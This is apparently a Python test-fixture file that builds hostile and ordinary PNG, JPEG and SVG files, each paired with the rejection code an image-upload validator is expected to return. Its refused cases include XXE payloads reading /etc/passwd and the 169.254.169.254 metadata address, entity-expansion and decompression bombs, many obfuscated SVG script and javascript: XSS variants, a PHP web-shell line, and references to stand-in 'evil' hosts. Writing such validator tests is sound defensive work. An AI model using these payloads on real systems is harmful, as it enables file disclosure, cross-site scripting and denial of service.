"""Hostile and ordinary image files, built in code (each a few bytes of its own kind)."""

import base64
import io
import struct
import zlib
from pathlib import Path

from PIL import Image

from tests.factories import png_bytes

SQUARE = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24">{}</svg>'
PUBLIC_DOCTYPE = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)


def svg(body: str, prolog: str = "") -> bytes:
    return (prolog + SQUARE.format(body)).encode()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header claims ``width`` x ``height`` (a decompression bomb's shape)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 65536))
        + png_chunk(b"IEND", b"")
    )


def jpeg_bytes(width: int, height: int, progressive: bool = False) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(held, "JPEG", progressive=progressive)
    return held.getvalue()


def embedded(raster: bytes) -> str:
    return f'<image width="24" height="24" href="data:image/png;base64,{base64.b64encode(raster).decode()}"/>'


def nested_uses(depth: int) -> str:
    levels = ['<g id="l0"><rect width="1" height="1"/></g>']
    levels += [
        f'<g id="l{n}"><use href="#l{n - 1}"/><use href="#l{n - 1}"/></g>' for n in range(1, depth)
    ]
    return "<defs>" + "".join(levels) + f'</defs><use href="#l{depth - 1}"/>'


def scans_repeated(data: bytes, count: int) -> bytes:
    """The progressive JPEG ``data`` with its first AC scan repeated up to ``count`` scans in
    all (a scan: its SOS marker, then its data, up to the next marker)."""
    scans, at = [], 2
    while data[at + 1] != 0xD9:
        (length,) = struct.unpack(">H", data[at + 2 : at + 4])
        end = at + 2 + length
        if data[at + 1] == 0xDA:
            while not (data[end] == 0xFF and data[end + 1] and not 0xD0 <= data[end + 1] <= 0xD7):
                end += 1
            scans.append((at, end))
        at = end
    start, end = scans[1]
    return data[:end] + data[start:end] * (count - len(scans)) + data[end:]


def jpeg_scans(count: int) -> bytes:
    """A small progressive JPEG of ``count`` scans."""
    return scans_repeated(jpeg_bytes(16, 16, progressive=True), count)


def png_with_text(size: int) -> bytes:
    """A PNG whose compressed text chunk inflates to ``size`` bytes (a few kilobytes here)."""
    plain = png_bytes(8)
    text = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * size, 9))
    return plain[:33] + text + plain[33:]


# name -> (bytes, the rule that refuses them)
REFUSED = {
    "over 2 MB": (png_bytes() + b"\0" * (2 * 1024 * 1024), "IMAGE_TOO_LARGE"),
    "GIF": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "IMAGE_FORMAT_UNSUPPORTED"),
    "HTML named .png": (
        b"<!DOCTYPE html><html><svg></svg><script>x()</script></html>",
        "IMAGE_FORMAT_UNSUPPORTED",
    ),
    "XHTML root": (
        b'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>',
        "IMAGE_FORMAT_UNSUPPORTED",
    ),
    "plain text": (b"just text", "IMAGE_FORMAT_UNSUPPORTED"),
    "truncated PNG": (png_bytes(64)[:-20], "IMAGE_UNREADABLE"),
    "PNG with trailing HTML": (
        png_bytes() + b"<html><script>alert(1)</script></html>",
        "IMAGE_UNREADABLE",
    ),
    "broken JPEG": (jpeg_bytes(32, 32)[:200], "IMAGE_UNREADABLE"),
    "ill-formed SVG": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><g></svg>',
        "IMAGE_UNREADABLE",
    ),
    "PNG bomb": (png_claiming(50_000, 50_000), "IMAGE_TOO_MANY_PIXELS"),
    "PNG just over the pixel cap": (png_claiming(2049, 2049), "IMAGE_TOO_MANY_PIXELS"),
    "embedded PNG bomb": (svg(embedded(png_claiming(50_000, 50_000))), "IMAGE_TOO_MANY_PIXELS"),
    "wide PNG": (png_bytes(64, 63), "IMAGE_NOT_SQUARE"),
    "tall JPEG": (jpeg_bytes(30, 31), "IMAGE_NOT_SQUARE"),
    "non-square viewBox": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 25"/>',
        "IMAGE_NOT_SQUARE",
    ),
    "non-square width and height": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="24" height="23"/>',
        "IMAGE_NOT_SQUARE",
    ),
    "percent size": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"/>',
        "SVG_GEOMETRY_INVALID",
    ),
    "em size": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="2em" height="2em"/>',
        "SVG_GEOMETRY_INVALID",
    ),
    "no size": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "SVG_GEOMETRY_INVALID"),
    "zero viewBox": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 0"/>',
        "SVG_GEOMETRY_INVALID",
    ),
    "negative viewBox": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 -5 -5"/>',
        "SVG_GEOMETRY_INVALID",
    ),
    "three-number viewBox": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24"/>',
        "SVG_GEOMETRY_INVALID",
    ),
    "XXE file": (
        svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "XXE URL": (
        svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "parameter entity": (
        svg("", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>'),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "external DTD": (svg("", '<!DOCTYPE svg SYSTEM "http://evil/x.dtd">'), "SVG_DOCTYPE_FORBIDDEN"),
    "billion laughs": (
        svg(
            "<text>&l3;</text>",
            '<!DOCTYPE svg [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]>',
        ),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "quadratic blow-up": (
        svg(
            "<text>" + "&a;" * 1000 + "</text>",
            '<!DOCTYPE svg [<!ENTITY a "' + "x" * 10000 + '">]>',
        ),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "ATTLIST onload default": (
        svg("", '<!DOCTYPE svg [<!ATTLIST svg onload CDATA #FIXED "alert(1)">]>'),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "ATTLIST href default": (
        svg(
            "<a><rect/></a>",
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ATTLIST a href CDATA "javascript:alert(1)">]>',
        ),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
    "script": (svg("<script>alert(1)</script>"), "SVG_ACTIVE_CONTENT"),
    "mixed-case script": (svg("<ScRiPt>alert(1)</ScRiPt>"), "SVG_ACTIVE_CONTENT"),
    "namespaced script": (
        svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "XHTML script": (
        svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "onload on the root": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="alert(1)"/>',
        "SVG_ACTIVE_CONTENT",
    ),
    "onclick on a shape": (svg('<rect onclick="alert(1)"/>'), "SVG_ACTIVE_CONTENT"),
    "SMIL onbegin": (svg('<animate attributeName="x" onbegin="alert(1)"/>'), "SVG_ACTIVE_CONTENT"),
    "handler on a nested svg": (svg('<svg onload="alert(1)"/>'), "SVG_ACTIVE_CONTENT"),
    "namespaced handler": (
        svg('<rect x:onmouseover="alert(1)" xmlns:x="urn:x"/>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "javascript: URL": (svg('<a href="javascript:alert(1)"><rect/></a>'), "SVG_ACTIVE_CONTENT"),
    "javascript: with a tab entity": (
        svg('<a href="jav&#x09;ascript:alert(1)"><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "javascript: with a newline and case": (
        svg('<a xlink:href=" JaVa&#10;Script:alert(1)"><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "javascript: with Unicode space": (
        svg('<a href="\u2003javascript:alert(1)"><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "data: HTML link": (
        svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "data: SVG image": (
        svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "foreignObject": (
        svg(
            '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>'
        ),
        "SVG_ACTIVE_CONTENT",
    ),
    "iframe in SVG": (svg('<iframe src="https://evil"/>'), "SVG_ACTIVE_CONTENT"),
    "form in SVG": (
        svg('<form action="https://evil"><input name="x"/></form>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "SMIL set href": (
        svg('<a><set attributeName="href" to="javascript:alert(1)"/><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "SMIL animate xlink:href": (
        svg('<a><animate attributeName="xlink:href" values="https://evil"/><rect/></a>'),
        "SVG_ACTIVE_CONTENT",
    ),
    "PHP tag": (svg("<?php system($_GET['c']); ?>"), "SVG_ACTIVE_CONTENT"),
    "xml-stylesheet": (
        b'<?xml-stylesheet href="https://evil/x.css"?>' + svg(""),
        "SVG_ACTIVE_CONTENT",
    ),
    "external use": (svg('<use href="https://evil/sprite.svg#a"/>'), "SVG_EXTERNAL_REFERENCE"),
    "external image": (svg('<image href="https://evil/track.png"/>'), "SVG_EXTERNAL_REFERENCE"),
    "external feImage": (
        svg('<filter id="f"><feImage xlink:href="//evil/x.png"/></filter>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "link elsewhere": (
        svg('<a href="https://phish.example/"><rect/></a>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "relative reference": (svg('<use href="other.svg#a"/>'), "SVG_EXTERNAL_REFERENCE"),
    "CSS @import": (svg('<style>@import "https://evil/x.css";</style>'), "SVG_EXTERNAL_REFERENCE"),
    "escaped @import": (
        svg('<style>@\\69mport "https://evil/x.css";</style>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "CSS url() in style": (
        svg("<style>rect { fill: url(https://evil/a#b) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() after a comment in a string": (
        svg('<style>a { x: "/*" } rect { fill: url(https://evil/a) }</style>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() after a comment in a url()": (
        svg("<style>a { fill: url(#/*) } rect { fill: url(https://evil/a) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() after an escaped comment": (
        svg("<style>a { x: \\2f\\2a } rect { fill: url(https://evil/a) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "@import after a child of <style>": (
        svg("<style><g/>@import url(https://evil/x.css);</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() after a title in <style>": (
        svg("<style>a{}<title/>rect { fill: url(https://evil/a) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "an <image> of a fragment": (
        svg('<image href="#a" width="1" height="1"/>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "a CSS background of a fragment": (
        svg("<style>svg { background-image: url(#bg) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "a CSS cursor of a fragment": (
        svg('<rect style="cursor:url(#c),auto"/>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "a cursor attribute of a fragment": (
        svg('<rect cursor="url(#c), auto"/>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "17 embedded images": (
        svg("".join(embedded(png_bytes(4 + n)) for n in range(17))),
        "SVG_TOO_COMPLEX",
    ),
    "65-scan JPEG": (jpeg_scans(65), "IMAGE_TOO_COMPLEX"),
    "PNG with 2 MB of inflated text": (png_with_text(2 * 1024 * 1024), "IMAGE_UNREADABLE"),
    "CDATA url()": (
        svg("<style><![CDATA[rect { background: url('//evil/a') }]]></style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() in a style attribute": (
        svg('<rect style="fill:url( &quot;https://evil/x&quot; )"/>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "url() in a presentation attribute": (
        svg('<rect marker-end="url(https://evil/m#a)"/>'),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "nested use amplification": (svg(nested_uses(6)), "SVG_USE_LIMIT"),
    "over 500 uses": (
        svg('<defs><rect id="r"/></defs>' + '<use href="#r"/>' * 501),
        "SVG_USE_LIMIT",
    ),
    "use cycle": (
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "SVG_USE_LIMIT",
    ),
}


def attributes(count: int, each: int = 100) -> str:
    """``count`` attributes on rects of ``each`` (svg() adds 3 of its own)."""
    names = [f"a{n}='1'" for n in range(count)]
    return "".join(f"<rect {' '.join(names[at : at + each])}/>" for at in range(0, count, each))


def css_escapes(count: int) -> str:
    return "rect { fill: " + "\\66 " * count + "}"


def nested_groups(depth: int) -> str:
    return "<g>" * depth + "</g>" * depth


# name -> bytes a correct check stores (rid of nothing active, or with nothing to remove)
ACCEPTED = {
    # CSS reads "u", a comment, then a function "rl(": no url() at all.
    "comment-split url()": svg("<style>rect { fill: u/**/rl(https://evil/a) }</style>"),
    "16 embedded images": svg("".join(embedded(png_bytes(4 + n)) for n in range(16))),
    "64-scan JPEG": jpeg_scans(64),
    "PNG": png_bytes(64),
    "JPEG": jpeg_bytes(48, 48),
    "public DOCTYPE icon": svg(
        '<circle cx="12" cy="12" r="10"/>', '<?xml version="1.0"?>' + PUBLIC_DOCTYPE
    ),
    "gradient and fragment use": svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient><path id="p" d="M0 0h24v24z"/></defs><use href="#p" fill="url(#g)"/><use xlink:href="#p" style="fill:url(#g)"/>'
    ),
    "unitless size": b'<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32"><rect width="32" height="32"/></svg>',
    "script text in CDATA": svg("<text><![CDATA[<script>alert(1)</script>]]></text>"),
    "markup in a comment": svg("<!-- <script>alert(1)</script> --><rect/>"),
    "embedded small PNG": svg(embedded(png_bytes(8))),
    "two-deep uses": svg(nested_uses(2)),
    "inkscape metadata": svg(
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" id="nv"/><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="Layer 1"><rect/></g>'
    ),
}

REFUSED |= {
    "upper-case URL()": (
        svg("<style>rect { fill: URL( 'https://evil/a' ) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "public id with a foreign DTD": (
        svg("", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">'),
        "SVG_DOCTYPE_FORBIDDEN",
    ),
}
REFUSED |= {
    # Expat slows down quadratically on deep nesting; so parsing stops at the caps.
    "nested 101 deep": (svg(nested_groups(100)), "SVG_TOO_COMPLEX"),
    "10,001 elements": (svg("<rect/>" * 10_000), "SVG_TOO_COMPLEX"),
    "149,000 levels deep": (svg(nested_groups(149_000)), "SVG_TOO_COMPLEX"),
    "50,001 attributes": (svg(attributes(50_001 - 3)), "SVG_TOO_COMPLEX"),
    "101 attributes on an element": (svg(attributes(101, each=101)), "SVG_TOO_COMPLEX"),
    "a name over 1,000 characters": (svg(f"<rect {'a' * 1_002}='1'/>"), "IMAGE_UNREADABLE"),
    "1,001 CSS escapes": (svg(f"<style>{css_escapes(1_001)}</style>"), "SVG_TOO_COMPLEX"),
    "CSS image-set() by a string": (
        svg("<style>svg { background: image-set('https://evil/a.png' 1x) }</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    "CSS src()": (svg("<rect style=\"fill: src('https://evil/a')\"/>"), "SVG_EXTERNAL_REFERENCE"),
    "unclosed quoted url()": (
        svg("<style>rect { fill: url('https://evil/a</style>"),
        "SVG_EXTERNAL_REFERENCE",
    ),
    # A lazy regular expression took 84 s over these; a scan takes milliseconds.
    "40,000 unclosed url(": (svg(f'<rect style="{"url(" * 40_000}"/>'), "SVG_EXTERNAL_REFERENCE"),
}
ACCEPTED |= {
    "nested 100 deep": svg(nested_groups(99)),
    "10,000 elements": svg("<rect/>" * 9_999),
    "50,000 attributes": svg(attributes(50_000 - 3)),
    "100 attributes on an element": svg(attributes(100)),
    "1,000 CSS escapes": svg(f"<style>{css_escapes(1_000)}</style>"),
    "Dublin Core source in metadata": svg(
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:source>badges.svg</dc:source><dc:format>image/svg+xml</dc:format></rdf:RDF></metadata><rect/>'
    ),
}
# Icon exports written by us in the manner of Illustrator, Inkscape, Figma, Sketch and SVGO:
# the public SVG 1.1 DOCTYPE, gradients, masks, filters, patterns, symbols and fragment uses.
ICONS = {
    f"icon {path.stem}": path.read_bytes()
    for path in sorted((Path(__file__).parent / "icons").glob("*.svg"))
}
